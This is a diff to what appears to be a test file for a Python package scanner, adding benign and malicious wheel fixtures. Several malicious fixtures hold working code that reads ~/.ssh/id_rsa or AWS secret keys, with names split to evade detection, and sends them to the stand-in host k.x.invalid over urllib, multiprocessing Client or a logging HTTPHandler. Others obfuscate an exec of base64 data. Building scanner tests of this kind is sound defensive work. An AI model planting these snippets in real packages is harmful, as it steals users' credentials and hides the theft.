@@ -77,6 +77,13 @@ CASES = [
         "fwsibling/__init__.py": f"from .{fullwidth('core')} import {fullwidth('grab')}\n"
                                  f"{fullwidth('grab')}()\n",
         "fwsibling/core.py": STEALER_MODULE}, "malicious", ("PV303",)),
+    # blanks and continued lines between a name and its parenthesis
+    _wheel("exec with a space before its parenthesis", "execspace", _init(
+        "execspace", f"import base64\nexec (base64.b64decode({B64!r}))\n"),
+        "malicious", ("PV201",)),
+    _wheel("exec continued on the next line before its parenthesis", "execcont", _init(
+        "execcont", f"import base64\nexec \\\n    (base64.b64decode({B64!r}))\n"),
+        "malicious", ("PV201",)),
     # source codecs Python ships: the text pkgvet reads is the decoded text
     _wheel("utf-7 coding cookie spells exec as +AGUAeABlAGM-", "utf7src", {
         "utf7src/__init__.py": (f"# coding: utf-7\nimport base64\n+AGUAeABlAGM-(base64."
@@ -136,6 +143,28 @@ CASES = [
            "lambdadefault", _init(
                "lambdadefault", f"import os\n_f = lambda x=os.system({SPLIT_RUN}): x\n"),
            "malicious", ("PV302",)),
+    # a credential's name built from pieces
+    _wheel("key path concatenated from pieces, read and posted", "splitkey", _init(
+        "splitkey", "import os, urllib.request\nkey = open(os.path.expanduser('~/' + '.s' + "
+                    "'sh/id_' + 'rsa')).read()\nurllib.request.urlopen('https://k.x.invalid/u', "
+                    "data=key.encode())\n"), "malicious", ("PV303",)),
+    _wheel("secret environment name concatenated from pieces", "splitenv", _init(
+        "splitenv", "import os, urllib.request\n"
+                    "tok = os.environ.get('AWS_SECRET_' + 'ACCESS_KEY', '')\n"
+                    "sid = os.environ['AWS_ACCESS_' + 'KEY_ID']\n"
+                    "urllib.request.urlopen('https://k.x.invalid/u', data=(sid + tok).encode())\n"),
+        "malicious", ("PV303",)),
+    # standard-library channels no screen named
+    _wheel("multiprocessing.connection.Client sends the key to a remote listener", "mpclient",
+           _init("mpclient", "import os\nfrom multiprocessing.connection import Client\n"
+                             "Client(('k.x.invalid', 443)).send(open(os.path.expanduser("
+                             "'~/' + '.s' + 'sh/id_rsa')).read())\n"), "malicious", ("PV303",)),
+    _wheel("a logging HTTPHandler posts the key logged at import", "loghttp", _init(
+        "loghttp", "import logging, logging.handlers, os\n_l = logging.getLogger('x')\n"
+                   "_l.addHandler(logging.handlers.HTTPHandler('k.x.invalid', '/log', "
+                   "method='POST'))\n"
+                   "_l.error(open(os.path.expanduser('~/.ssh/id_rsa')).read())\n"),
+        "malicious", ("PV303",)),
     # methods that syntax calls
     _wheel("__class_getitem__ runs when the class is subscripted at import", "clsgetitem",
            _init("clsgetitem", (
@@ -262,6 +291,15 @@ CASES = [
                              "    with ThreadPoolExecutor(4) as pool:\n"
                              "        return list(pool.map(subprocess.check_output, "
                              "[['git', '-C', r, 'status'] for r in repos]))\n"), "benign"),
+    _wheel("settings read under a prefix built by +; log records to a configured collector",
+           "prefixcfg", _init(
+               "prefixcfg", "import logging, logging.handlers, os\n\nPREFIX = 'PREFIXCFG_'\n"
+                            "LEVEL = os.environ.get(PREFIX + 'LOG_LEVEL', 'INFO')\n"
+                            "HOST = os.environ.get(PREFIX + 'COLLECTOR', '')\n"
+                            "log = logging.getLogger('prefixcfg')\nlog.setLevel(LEVEL)\n"
+                            "if HOST:\n    log.addHandler(logging.handlers.HTTPHandler(HOST, "
+                            "'/logs', method='POST'))\nlog.info('started in %s', os.getcwd())\n"),
+           "benign"),
     _wheel("getattr on subprocess and os for optional names", "getattrspawn", _init(
         "getattrspawn", "import os, subprocess\n\n_run = getattr(subprocess, 'run')\n"
                         "MODE = getattr(os, 'O_BINARY', 0)\n\n\ndef compile_docs(src):\n"
